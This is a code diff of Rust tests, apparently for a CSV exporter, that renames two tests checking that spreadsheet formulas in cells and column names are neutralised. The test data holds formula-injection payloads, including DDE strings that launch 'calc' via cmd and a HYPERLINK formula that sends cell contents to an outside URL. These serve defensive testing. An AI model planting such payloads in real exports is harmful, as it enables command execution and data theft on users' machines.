@@ -49,7 +49,7 @@ fn texts_that_spreadsheets_would_run_are_guarded() {
 }
 
 #[test]
-fn every_form_of_a_formula_is_guarded_and_nothing_else() {
+fn r170_every_form_of_a_formula_is_guarded_and_nothing_else() {
     let payloads =
         ["cmd|' /C calc'!A0", "HYPERLINK(\"https://example.com?\"&A1,\"x\")", "1+1", "DDE(\"cmd\";\"/C calc\")"];
     let signs = ["=", "+", "-", "@", "\t", "\r", "\n", "\t=", "\r\n=", "＝", "＋", "－", "＠", "--", "=-", "+-"];
@@ -91,7 +91,7 @@ fn csv_rows(text: &str) -> Vec<String> {
 }
 
 #[test]
-fn a_name_of_a_column_is_guarded_too() {
+fn r170_a_name_of_a_column_is_guarded_too() {
     let run = printed(r#"[{"=HYPERLINK(1)":{"@b":1},"id":"a"}]"#, "");
     assert_eq!(run.success(), "id,'=HYPERLINK(1).@b\r\na,1\r\n");
 }
